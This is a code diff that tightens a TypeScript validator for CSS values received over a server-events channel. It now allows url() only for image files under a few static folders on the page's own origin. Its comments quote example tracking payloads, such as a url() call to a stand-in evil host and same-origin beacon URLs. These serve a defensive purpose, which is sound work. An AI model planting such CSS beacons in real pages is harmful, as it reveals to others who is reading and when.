@@ -3,9 +3,10 @@
  * look: `background-image: url(https://evil.example/?who=you)` tells another origin who is
  * reading the channel and when, and old engines ran `expression(…)`. So a value may call only
  * functions known not to load anything (colours, maths, gradients, transforms, filters), and
- * `url(…)` only for an image file on the page's own origin: any other same-origin URL would make
- * every reader's browser call the site with their cookies (`url(/event-stream?channels=spied)`
- * shows who is reading). Everything else is refused, rather than repaired, so what is applied is
+ * `url(…)` only for an image file in the page origin's static folders: any other same-origin URL
+ * would make every reader's browser call the site with their cookies
+ * (`url(/event-stream?channels=spied)` shows who is reading; `url(/api/auth/x.png)` puts an
+ * error in the server's log for each reader). Everything else is refused, rather than repaired, so what is applied is
  * always exactly what was sent.
  * @see https://docs.servicestack.net/server-events#css-selectors
  */
@@ -63,8 +64,9 @@ function urlArgument(text: string, open: number, close: number): string | undefi
   return /[\s"'(]/u.test(inner) ? undefined : inner;
 }
 
-/** A path ending in one of these names a file; the site's endpoints have no extension. */
-const imageFile = /\.(?:png|jpe?g|gif|webp|avif|svg|ico)$/iu;
+/** Where a site keeps pictures (`public/img`, Next's build output, the avatars): never endpoints. */
+const imageFile =
+  /^\/(?:img|images|_next\/static|avatars)\/[^?#]*\.(?:png|jpe?g|gif|webp|avif|svg|ico)$/iu;
 
 function isSameOriginImage(reference: string, pageHref: string | undefined): boolean {
   if (pageHref === undefined || reference.trim() === "") return false;
@@ -102,7 +104,7 @@ export function cssValueProblem(value: string, pageHref: string | undefined): st
       const close = value.indexOf(")", at);
       const reference = close < 0 ? undefined : urlArgument(value, at, close);
       if (reference === undefined || !isSameOriginImage(reference, pageHref))
-        return "url() must name an image file on this page's origin";
+        return "url() must name an image under /img/, /images/, /_next/static/ or /avatars/ on this page's origin";
       at = close; // the argument is a URL, not more CSS: go on after it
     } else if (!safeFunctions.has(name)) {
       return name === "" ? "a bare '(' is not allowed" : `${name}() is not allowed`;
